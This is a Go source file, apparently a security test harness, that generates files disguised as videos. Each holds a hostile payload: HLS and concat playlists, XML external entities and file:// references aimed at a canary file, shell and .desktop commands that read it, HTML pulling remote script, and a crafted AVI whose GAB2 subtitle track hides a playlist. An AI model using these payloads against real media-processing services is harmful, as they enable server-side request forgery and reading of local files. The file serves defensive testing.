package hostile

import (
	"encoding/binary"
	"strings"
	"unicode/utf16"
)

// fill puts in what a text points at.
func (t *Target) fill(s string) []byte {
	bare := strings.TrimPrefix(t.URL, "http://")
	host, port, _ := strings.Cut(bare, ":")
	return []byte(strings.NewReplacer("{url}", t.URL, "{canary}", t.Canary, "{host}", host, "{port}", port,
		"{bare}", bare).Replace(s))
}

const playlist = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:9\n#EXT-X-MEDIA-SEQUENCE:0\n" +
	"#EXTINF:9,\n{url}/a.ts\n#EXTINF:9,\nfile://{canary}\n#EXTINF:9,\n{canary}\n#EXT-X-ENDLIST\n"

// scripts are playlists, scripts and pages that are called a video.
func scripts() []File {
	return []File{
		text("hls.mp4", playlist),
		text("hls-key.ts", "#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"{url}/key\"\n#EXTINF:9,\n{canary}\n"),
		text("hls-variant.mkv", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}/media.m3u8\n"),
		text("hls-concat.mp4", "#EXTM3U\n#EXTINF:9,\nconcat:{url}/a|{canary}\n#EXT-X-ENDLIST\n"),
		text("hls-marked.mp4", "\xef\xbb\xbf"+playlist),
		text("hls-after-space.mp4", strings.Repeat("\n", 5000)+playlist),
		text("hls-after-comment.mp4", strings.Repeat("# a comment\n", 500)+playlist),
		{Name: "hls-utf16.mp4", Want: Refused, data: func(t *Target) ([]byte, error) {
			out := []byte{0xff, 0xfe}
			for _, u := range utf16.Encode([]rune(string(t.fill(playlist)))) {
				out = binary.LittleEndian.AppendUint16(out, u)
			}
			return out, nil
		}},
		text("ffconcat.mp4", "ffconcat version 1.0\nfile '{canary}'\nfile '{url}/a.mp4'\n"),
		text("concat.mkv", "file '{canary}'\nfile '{url}/a.mp4'\n"),
		text("sdp.mp4", "v=0\no=- 0 0 IN IP4 {host}\ns=x\nc=IN IP4 {host}\nt=0 0\nm=video {port} RTP/AVP 96\n"+
			"a=rtpmap:96 H264/90000\n"),
		text("dash.mp4", `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period>`+
			`<AdaptationSet mimeType="video/mp4"><Representation id="1"><BaseURL>{url}/a.mp4</BaseURL>`+
			`</Representation></AdaptationSet></Period></MPD>`),
		text("smil.mov", `<smil><body><video src="{url}/a.mp4"/><video src="{canary}"/></body></smil>`),
		text("xspf.avi", `<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList>`+
			`<track><location>{url}/a.mp4</location></track></trackList></playlist>`),
		text("entity.mp4", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{canary}">]><x>&e;</x>`),
		text("strm.mkv", "{url}/film.mkv\n"), text("strm-file.mkv", "file://{canary}\n"),
		text("rtsp.mp4", "rtsp://{bare}/live\n"),
		text("asx.wmv", `<ASX version="3.0"><Entry><Ref href="{url}/a.wmv"/></Entry></ASX>`),
		text("pls.mp4", "[playlist]\nFile1={url}/a.mp4\nNumberOfEntries=1\n"),
		text("qtl.mov", "RTSPtext\nrtsp://{bare}/a\n"),
		text("shell.mp4", "#!/bin/sh\ncat {canary}\n"),
		text("page.mp4", "<!DOCTYPE html><script src=\"{url}/x.js\"></script>"),
		text("svg.mp4", `<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}/x.png"/></svg>`),
		text("shortcut.mp4", "[InternetShortcut]\nURL={url}/\n"),
		text("desktop.mp4", "[Desktop Entry]\nType=Application\nExec=cat {canary}\n"),
		text("avisynth.avi", "AviSource(\"{canary}\")\n"),
		text("vapoursynth.mkv", "import os\nos.open('{canary}', 0)\n"),
		text("cue.mp4", "FILE \"{canary}\" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n"),
		text("ffmetadata.mp4", ";FFMETADATA1\ntitle={canary}\n"),
		text("lrc.mp4", "[00:00.00]{url}\n"), text("ass.mkv", "[Script Info]\nScriptType: v4.00+\n"),
		{Name: "xbin.mp4", Want: Refused, data: func(t *Target) ([]byte, error) {
			return append([]byte("XBIN\x1a\x50\x00\x32\x00\x10\x00"), t.fill(playlist)...), nil
		}},
		{Name: "gab2.avi", data: func(t *Target) ([]byte, error) { return gab2(t.fill(playlist)), nil }},
		{Name: "playlist-behind-ftyp.mp4", data: func(t *Target) ([]byte, error) {
			return append(box("ftyp", []byte("isom\x00\x00\x02\x00isom")), t.fill(playlist)...), nil
		}},
	}
}

// gab2 is an AVI whose subtitles are a playlist, as a demuxer once followed it to other hosts (GAB2 chunks).
func gab2(inner []byte) []byte {
	le := func(v ...uint32) (out []byte) {
		for _, x := range v {
			out = binary.LittleEndian.AppendUint32(out, x)
		}
		return out
	}
	chunk := func(id string, parts ...[]byte) []byte {
		body := join(parts...)
		out := append([]byte(id), le(uint32(len(body)))...)
		out = append(out, body...)
		if len(body)%2 == 1 {
			out = append(out, 0)
		}
		return out
	}
	list := func(id, kind string, parts ...[]byte) []byte {
		return chunk(id, append([][]byte{[]byte(kind)}, parts...)...)
	}
	head := func(kind, handler string) []byte {
		return chunk("strh", []byte(kind), []byte(handler), le(0, 0, 0, 1, 25, 0, 1, 0, 0, 0, 0, 0))
	}
	bitmap := chunk("strf", le(40, 64, 48), []byte{1, 0, 24, 0}, le(0, 64*48*3, 0, 0, 0, 0))
	subtitle := join([]byte("GAB2\x00\x02\x00"), le(2), []byte{'x', 0}, []byte{4, 0}, le(uint32(len(inner))), inner)
	return list("RIFF", "AVI ",
		list("LIST", "hdrl", chunk("avih", le(40_000, 0, 0, 0x10, 1, 0, 2, 0, 64, 48, 0, 0, 0, 0)),
			list("LIST", "strl", head("vids", "DIB "), bitmap),
			list("LIST", "strl", head("txts", "\x00\x00\x00\x00"), chunk("strf"))),
		list("LIST", "movi", chunk("00db", make([]byte, 64*48*3)), chunk("01tx", subtitle)))
}

func join(parts ...[]byte) (out []byte) {
	for _, p := range parts {
		out = append(out, p...)
	}
	return out
}

func u32(v ...uint32) (out []byte) {
	for _, x := range v {
		out = binary.BigEndian.AppendUint32(out, x)
	}
	return out
}

func box(kind string, parts ...[]byte) []byte {
	body := join(parts...)
	return join(u32(uint32(len(body)+8)), []byte(kind), body)
}
